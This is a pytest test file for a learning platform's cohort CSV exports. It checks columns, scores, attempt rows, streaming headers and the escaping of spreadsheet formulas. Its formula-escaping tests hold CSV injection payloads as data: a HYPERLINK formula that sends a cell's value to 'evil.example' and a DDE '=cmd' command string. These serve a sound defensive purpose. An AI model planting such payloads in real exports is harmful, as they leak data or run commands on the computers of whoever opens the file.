"""The CSV exports: stable columns, the page's numbers, no formulas for spreadsheets."""

from datetime import timedelta

import pytest

from app.cohorts import assignments as assignment_service
from app.cohorts import results
from app.cohorts.export import ATTEMPT_COLUMNS, safe_cell
from app.extensions import db
from app.models import Assignment, Cohort, LessonProgress
from app.models._types import utcnow
from tests.functional.cohort_reports import builders as b
from tests.functional.cohort_reports.pages import (
    csv_header,
    matrix_on_page,
    page_cell,
    page_percent,
    read_csv,
)


def matrix_csv(client, cohort_id: int):
    return client.get(f"/cohorts/{cohort_id}/export/matrix.csv")


def attempts_csv(client, cohort_id: int):
    return client.get(f"/cohorts/{cohort_id}/export/attempts.csv")


@pytest.fixture
def busy_cohort(cohort, ctx):
    """Three learners in different states on an exam, a quiz, a scenario and an overdue
    lesson (one learner with an extension). Returns the assignment ids, in page order."""
    with ctx():
        lesson = b.assign(cohort, "lesson", b.LESSON, due=timedelta(hours=-1))
        exam = b.assign(cohort, "exam", b.EXAM, counts="best")
        quiz = b.assign(cohort, "quiz", b.QUIZ, counts="last", attempts_allowed=1)
        scenario = b.assign(cohort, "scenario", b.SCENARIO)
        ada, bo, cy = b.add_learners(cohort, 3, names=["Ada", "Bo", "Cy"])
        b.exam_attempt(ada, {b.SINGLE: b.RIGHT[b.SINGLE], b.SINGLE_2: None}, b.earlier(5))
        b.exam_attempt(ada, {b.SINGLE: b.RIGHT[b.SINGLE], b.SINGLE_2: b.WRONG[b.SINGLE_2]}, None)
        b.exam_attempt(
            ada, {b.SINGLE: b.WRONG[b.SINGLE], b.SINGLE_2: b.WRONG[b.SINGLE_2]}, b.earlier(4)
        )
        b.practice_run(ada, [(b.MULTIPLE, {"choices": ["b"]})], b.earlier(3))  # 50%, counts
        b.practice_run(ada, [(b.SINGLE, b.RIGHT[b.SINGLE])], b.earlier(2))  # beyond the one allowed
        db.session.add(
            LessonProgress(
                user_id=ada,
                lesson_id=b.LESSON,
                first_opened_at=b.earlier(9),
                completed_at=b.earlier(8),
            )
        )
        db.session.commit()
        b.exam_attempt(bo, {b.SINGLE: b.WRONG[b.SINGLE]}, None)  # open: in progress
        b.scenario_attempt(bo, [("brief", "assess")], b.earlier(1), total=66.7)  # 66.7 %
        cohort_row = db.session.get(Cohort, cohort)
        lesson_row = db.session.get(Assignment, lesson)
        extended = (b.earlier(-48)).replace(tzinfo=None, second=0, microsecond=0)
        assignment_service.set_exception(cohort_row, lesson_row, bo, extended, 0)
        b.practice_run(cy, [(b.SINGLE, b.WRONG[b.SINGLE])], b.earlier(1), finished=False)
        # The builders write rows directly, not through the services that keep the
        # board's stored results current: recompute them as a scheduler's repair would.
        results.refresh_cohort(cohort_row, utcnow())
        db.session.commit()
    return [lesson, exam, quiz, scenario]


def test_the_matrix_has_its_documented_columns(teacher, cohort, busy_cohort):
    header = csv_header(matrix_csv(teacher.client, cohort))
    per_assignment = [
        f"{a}:{name}" for a in busy_cohort for name in ("status", "score", "attempts")
    ]
    assert header == [
        "learner_id",
        "name",
        "email",
        *per_assignment,
        "total:done",
        "total:overdue",
        "total:mean_score",
    ]


def test_the_matrix_csv_equals_the_cohort_page(teacher, cohort, busy_cohort):
    page = matrix_on_page(teacher.client.get(f"/cohorts/{cohort}").get_data(as_text=True))
    rows = read_csv(matrix_csv(teacher.client, cohort))
    assert sorted(row["name"] for row in rows) == sorted(page) == ["Ada", "Bo", "Cy"]
    for row in rows:
        cells = page[row["name"]]
        for index, a in enumerate(busy_cohort):
            state, score = page_cell(cells[index])
            assert (row[f"{a}:status"], row[f"{a}:score"]) == (state, score), (row["name"], a)
        done, overdue, mean = cells[len(busy_cohort) :]
        assert row["total:done"] == done
        assert row["total:overdue"] == overdue
        assert row["total:mean_score"] == page_percent(mean)


def test_the_matrix_csv_holds_the_expected_values(teacher, cohort, busy_cohort, ctx):
    lesson, exam, quiz, scenario = busy_cohort
    rows = {row["name"]: row for row in read_csv(matrix_csv(teacher.client, cohort))}
    ada, bo, cy = rows["Ada"], rows["Bo"], rows["Cy"]
    assert (ada[f"{exam}:status"], ada[f"{exam}:score"], ada[f"{exam}:attempts"]) == (
        "done",
        "50",  # the best of 1/2 and 0/2
        "2",  # the open attempt is not finished
    )
    assert (ada[f"{quiz}:status"], ada[f"{quiz}:score"], ada[f"{quiz}:attempts"]) == (
        "done",
        "50",
        "1",
    )
    assert (ada[f"{lesson}:status"], ada[f"{lesson}:score"]) == ("done", "")
    assert ada["total:done"] == "3" and ada["total:overdue"] == "0"
    assert ada["total:mean_score"] == "50"
    assert bo[f"{lesson}:status"] == "not started"  # extended past now
    assert (bo[f"{exam}:status"], bo[f"{exam}:score"]) == ("in progress", "")
    assert (bo[f"{scenario}:status"], bo[f"{scenario}:score"]) == (
        "done",
        "67",
    )  # rounded as the page rounds
    assert cy[f"{lesson}:status"] == "overdue" and cy["total:overdue"] == "1"
    assert cy[f"{quiz}:status"] == "in progress"
    assert cy["total:mean_score"] == ""
    with ctx():
        from app.models import User

        xapi_ids = {u.display_name: u.xapi_id for u in db.session.query(User)}
    assert ada["learner_id"] == xapi_ids["Ada"] and len(ada["learner_id"]) == 36
    assert ada["email"] == "member0@example.com"


def test_every_attempt_is_a_row_and_the_counted_one_has_the_page_score(
    teacher, cohort, busy_cohort
):
    lesson, exam, quiz, scenario = busy_cohort
    response = attempts_csv(teacher.client, cohort)
    assert csv_header(response) == ATTEMPT_COLUMNS
    rows = read_csv(response)
    matrix = {row["name"]: row for row in read_csv(matrix_csv(teacher.client, cohort))}

    def of(name: str, assignment: int) -> list[dict]:
        return [r for r in rows if r["name"] == name and r["assignment_id"] == str(assignment)]

    ada_exam = of("Ada", exam)
    assert [(r["score_percent"], r["counted"]) for r in ada_exam] == [
        ("50", "yes"),
        ("0", "no"),
        ("", "no"),  # still open: no finish, no score
    ]
    assert ada_exam[2]["finished_at"] == ""
    assert ada_exam[0]["started_at"] < ada_exam[0]["finished_at"]
    assert ada_exam[0]["finished_at"].endswith("Z") and "T" in ada_exam[0]["finished_at"]
    assert ada_exam[0] | {"started_at": "", "finished_at": ""} == {
        "cohort_id": str(cohort),
        "assignment_id": str(exam),
        "assignment_title": "Project management for IT: mock exam",
        "kind": "exam",
        "item_id": b.EXAM,
        "learner_id": matrix["Ada"]["learner_id"],
        "name": "Ada",
        "started_at": "",
        "finished_at": "",
        "score_percent": "50",
        "counted": "yes",
    }
    assert [(r["score_percent"], r["counted"]) for r in of("Ada", quiz)] == [
        ("50", "yes"),
        ("100", "no"),  # beyond the one attempt allowed
    ]
    assert [(r["score_percent"], r["counted"]) for r in of("Ada", lesson)] == [("", "yes")]
    assert [(r["score_percent"], r["counted"]) for r in of("Bo", scenario)] == [("67", "yes")]
    assert of("Cy", exam) == [] and len(of("Cy", quiz)) == 1
    for row in rows:  # the counted attempt's score is the one the matrix shows
        if row["counted"] == "yes":
            assert row["score_percent"] == matrix[row["name"]][f"{row['assignment_id']}:score"]


def test_the_exports_stream_as_attachments(teacher, cohort, busy_cohort):
    for name in ("matrix", "attempts"):
        with teacher.client.get(f"/cohorts/{cohort}/export/{name}.csv") as response:
            assert response.status_code == 200
            assert response.is_streamed
            assert response.get_data(as_text=True).count("\r\n") >= 3  # header and learners
            assert response.mimetype == "text/csv"
            assert response.headers["Content-Disposition"].startswith(
                f'attachment; filename="cohort-{cohort}-{name}-'
            )
            assert response.headers["Cache-Control"] == "no-store"


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2+3", "@SUM(A1:A9)"]


def test_cells_that_look_like_formulas_are_escaped(teacher, cohort, ctx):
    with ctx():
        aid = b.assign(cohort, "exam", b.EXAM)
        db.session.get(Assignment, aid).title = "=cmd|' /C calc'!A0"
        db.session.commit()
        ids = b.add_learners(cohort, len(FORMULAS) + 1, names=[*FORMULAS, "Ann-Marie"])
        for uid in ids:
            b.exam_attempt(uid, {b.SINGLE: b.RIGHT[b.SINGLE]}, b.earlier(1))
    names = {row["name"] for row in read_csv(matrix_csv(teacher.client, cohort))}
    assert names == {"'" + f for f in FORMULAS} | {"Ann-Marie"}
    attempts = read_csv(attempts_csv(teacher.client, cohort))
    assert {row["name"] for row in attempts} == names
    assert {row["assignment_title"] for row in attempts} == {"'=cmd|' /C calc'!A0"}


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (42, 42),
    ],
)
def test_safe_cell_prefixes_formula_starts_with_a_quote(value, cell):
    assert safe_cell(value) == cell


def test_an_empty_cohort_exports_just_the_headers(teacher, cohort):
    assert read_csv(matrix_csv(teacher.client, cohort)) == []
    assert csv_header(attempts_csv(teacher.client, cohort)) == ATTEMPT_COLUMNS
    assert read_csv(attempts_csv(teacher.client, cohort)) == []
